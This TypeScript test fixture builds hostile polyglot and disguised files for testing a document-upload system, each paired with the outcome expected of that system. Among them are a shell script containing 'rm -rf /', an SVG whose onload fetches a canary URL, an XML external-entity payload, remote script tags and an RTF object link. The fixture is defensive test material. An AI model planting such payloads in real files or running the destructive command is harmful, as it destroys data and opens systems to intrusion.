import { type Canary, clause, type HostileFile, type Outcome } from '../hostile-file.ts';
import { onePage, pdfFile, show } from './pdf-bytes.ts';
import { noise } from './repeatable-bytes.ts';
import { documentXml, paragraph, wordEntries, wordFile } from './word-parts.ts';
import { zipFile } from './zip-bytes.ts';

function polyglot(
  name: string,
  extension: string,
  attack: string,
  expected: readonly Outcome[],
  content: (canary: Canary) => Buffer | string,
): HostileFile {
  const text = expected.includes('ready') ? { text: clause } : {};
  return {
    name,
    filename: `${name}.${extension}`,
    attack,
    expected,
    content: (canary) => Buffer.from(content(canary)),
    ...text,
  };
}

const unsupported: readonly Outcome[] = ['refused UNSUPPORTED_FILE_TYPE'];
const pdf = () => pdfFile(onePage(show(clause)));
const word = () => wordFile(documentXml(paragraph(clause)));

/** Files that are of two kinds, or of another than they say. */
export const polyglots: readonly HostileFile[] = [
  polyglot('polyglot-pdf-and-word', 'docx', 'is a PDF with a Word document behind it', ['ready'], () =>
    Buffer.concat([pdf(), word()]),
  ),
  polyglot(
    'polyglot-word-and-pdf',
    'pdf',
    'is a Word document that begins with a PDF',
    ['ready', 'unreadable damaged'],
    () => zipFile([{ name: 'a', data: pdf(), method: 0 }, ...wordEntries(documentXml(paragraph(clause)))]),
  ),
  polyglot('polyglot-html-and-pdf', 'pdf', 'is a web page with a PDF in a comment', unsupported, ({ url }) =>
    Buffer.concat([Buffer.from(`<html><script src="${url}html"></script><!--\n`), pdf()]),
  ),
  polyglot(
    'polyglot-pdf-and-html',
    'html',
    'is a PDF with the name of a web page and scripts at its end',
    ['ready'],
    ({ url }) => Buffer.concat([pdf(), Buffer.from(`<html><script src="${url}html"></script>`)]),
  ),
  polyglot(
    'polyglot-gif-and-script',
    'txt',
    'is a script that begins like a picture',
    [...unsupported, 'ready'],
    () => `GIF89a/*${clause}*/=1;alert(1)`,
  ),
  polyglot('polyglot-jpeg-and-pdf', 'pdf', 'is a picture with a PDF in a comment', unsupported, () =>
    Buffer.concat([Buffer.from('ffd8fffe0100', 'hex'), pdf()]),
  ),
  polyglot('polyglot-program-and-pdf', 'pdf', 'is a program with a PDF in its first kilobyte', unsupported, () =>
    Buffer.concat([Buffer.from('MZ'), noise(100), pdf()]),
  ),
  polyglot('polyglot-program-and-word', 'docx', 'is a program with a Word document behind it', unsupported, () =>
    Buffer.concat([Buffer.from('\x7fELF'), noise(100), word()]),
  ),
  polyglot(
    'polyglot-noise-and-pdf',
    'pdf',
    'is a PDF behind 1,000 bytes of noise',
    ['ready', 'unreadable damaged'],
    () => Buffer.concat([Buffer.from([0]), noise(1000), pdf()]),
  ),
  polyglot(
    'polyglot-script-and-text',
    'txt',
    'is a program for a shell',
    ['ready'],
    () => `#!/bin/sh\n# ${clause}\nrm -rf /\n`,
  ),
  polyglot(
    'disguise-web-page',
    'txt',
    'is a web page with the name of a text',
    unsupported,
    ({ url }) => `\ufeff \n<!DOCTYPE html><script src="${url}page"></script>`,
  ),
  polyglot(
    'disguise-picture-with-scripts',
    'md',
    'is an SVG picture with the name of Markdown',
    unsupported,
    ({ url }) => `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${url}')"/>`,
  ),
  polyglot(
    'disguise-xml-with-entities',
    'txt',
    'is XML with entities',
    unsupported,
    ({ url }) => `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${url}xml">]><a>&b;</a>`,
  ),
  polyglot(
    'disguise-rich-text',
    'docx',
    'is RTF with an object',
    unsupported,
    () => '{\\rtf1{\\object\\objautlink\\objupdate}}',
  ),
  polyglot('disguise-old-word', 'docx', 'is an OLE file', unsupported, () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(10_000)]),
  ),
  polyglot('disguise-postscript', 'pdf', 'is a PostScript program', unsupported, () => '%!PS\n{ } loop'),
  polyglot('disguise-gzip-bomb', 'txt', 'is a gzip archive', unsupported, () =>
    Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), noise(1000)]),
  ),
];
